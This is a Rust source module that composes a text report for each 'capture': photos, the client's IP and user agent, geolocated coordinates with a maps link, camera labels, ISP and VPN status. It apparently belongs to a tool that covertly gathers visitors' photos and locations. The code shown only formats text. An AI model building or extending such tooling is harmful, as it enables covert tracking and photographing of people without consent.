// ── Report composition ──
//
// Renders one capture into the fixed-layout text message. Every section
// is always present; unset values render as empty strings (or zeros for
// coordinates). Only the ISP line is conditional.

use std::fmt;

use chrono::{DateTime, Utc};
use chrono_tz::Tz;

use crate::model::{CaptureEvent, LocationEstimate, NetworkInfo};

/// Zone used for the report timestamp. Not configurable.
pub const REPORT_TIME_ZONE: Tz = chrono_tz::Asia::Jakarta;

/// Civil format of the report timestamp.
pub const TIMESTAMP_FORMAT: &str = "%Y-%m-%d %H:%M:%S";

/// Composed text plus the photos that follow it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NotificationReport<'a> {
    text: String,
    photos: &'a [String],
}

impl<'a> NotificationReport<'a> {
    pub fn text(&self) -> &str {
        &self.text
    }

    /// Encoded photos, in submission order.
    pub fn photos(&self) -> &'a [String] {
        self.photos
    }
}

/// Builds `NotificationReport`s. Deterministic for a given `resolved_now`.
#[derive(Debug, Clone, Copy, Default)]
pub struct ReportComposer;

impl ReportComposer {
    pub fn compose<'a>(
        &self,
        event: &'a CaptureEvent,
        estimate: &LocationEstimate,
        network: &NetworkInfo,
        resolved_now: DateTime<Utc>,
    ) -> NotificationReport<'a> {
        let text = ReportText {
            event,
            estimate,
            network,
            resolved_now,
        }
        .to_string();

        NotificationReport {
            text,
            photos: event.photos(),
        }
    }
}

/// Google Maps link for a coordinate pair.
pub fn map_link(latitude: f64, longitude: f64) -> String {
    format!("https://www.google.com/maps?q={latitude:.6},{longitude:.6}")
}

struct ReportText<'a> {
    event: &'a CaptureEvent,
    estimate: &'a LocationEstimate,
    network: &'a NetworkInfo,
    resolved_now: DateTime<Utc>,
}

impl fmt::Display for ReportText<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self {
            event,
            estimate,
            network,
            resolved_now,
        } = self;
        let request = event.request();

        writeln!(f, "📸 New capture received")?;
        writeln!(f)?;
        writeln!(f, "🌍 Source: {}", event.source_label())?;
        writeln!(f, "🔢 IP: {}", request.raw_client_address)?;
        writeln!(f, "🌐 URL Host: {}", request.origin())?;
        writeln!(f)?;

        writeln!(f, "📱 User-Agent:")?;
        writeln!(f, "{}", request.user_agent)?;
        writeln!(f)?;

        writeln!(f, "📍 Location:")?;
        writeln!(f, "Country Code : {}", estimate.country_code.to_uppercase())?;
        writeln!(f, "Country Name : {}", estimate.country_name)?;
        writeln!(f, "Region Name : {}", estimate.region_name)?;
        writeln!(f, "City Name : {}", estimate.city_name)?;
        writeln!(f, "Lat: {:.6}", estimate.latitude)?;
        writeln!(f, "Lon: {:.6}", estimate.longitude)?;
        writeln!(f, "Accuracy: {:.1}m", estimate.accuracy_meters)?;
        writeln!(f)?;

        writeln!(
            f,
            "🗺️ Open Maps: {}",
            map_link(estimate.latitude, estimate.longitude)
        )?;
        writeln!(f)?;

        if event.camera_labels().is_empty() {
            writeln!(f, "📷 Camera: (unknown)")?;
        }
        for (i, label) in event.camera_labels().iter().enumerate() {
            writeln!(f, "📷 Camera {}: {label}", i + 1)?;
        }

        match (network.isp_name.as_str(), network.asn.as_str()) {
            ("", _) => {}
            (isp, "") => writeln!(f, "🔌 ISP: {isp}")?,
            (isp, asn) => writeln!(f, "🔌 ISP: {isp} ({asn})")?,
        }

        writeln!(f, "🛡️ Proxy/VPN: {}", network.is_proxy)?;
        writeln!(
            f,
            "⏰ Time: {}",
            resolved_now
                .with_timezone(&REPORT_TIME_ZONE)
                .format(TIMESTAMP_FORMAT)
        )
    }
}
